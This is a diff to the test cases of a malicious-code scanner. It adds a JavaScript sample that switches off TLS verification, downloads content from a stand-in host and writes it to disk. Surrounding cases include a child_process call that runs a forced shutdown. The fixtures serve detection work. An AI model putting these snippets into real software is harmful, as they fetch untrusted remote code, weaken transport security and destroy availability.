@@ -151,6 +151,14 @@ CASES: list[tuple[Rule, str, str, str]] = [
         "print('" + "".join(f"\\x{b:02x}" for b in b"print('hi there')") + "')\n",
     ),
     (
+        executes_code_at_remote_url_rule,
+        "c.js",
+        "const fs = require('fs');\nprocess.env['NODE_TLS_REJECT_UNAUTHORIZED'] = 0;\n"
+        "const r = request('GET', 'https://x.example.net/c');\nfs.writeFileSync(p, r.body);\n",
+        "const fs = require('fs');\n"
+        "const r = request('GET', 'https://x.example.net/c');\nfs.writeFileSync(p, r.body);\n",
+    ),
+    (
         destructive_command_rule,
         "k.js",
         "require('child_process').exec('shutdown -s -t 0');\n",
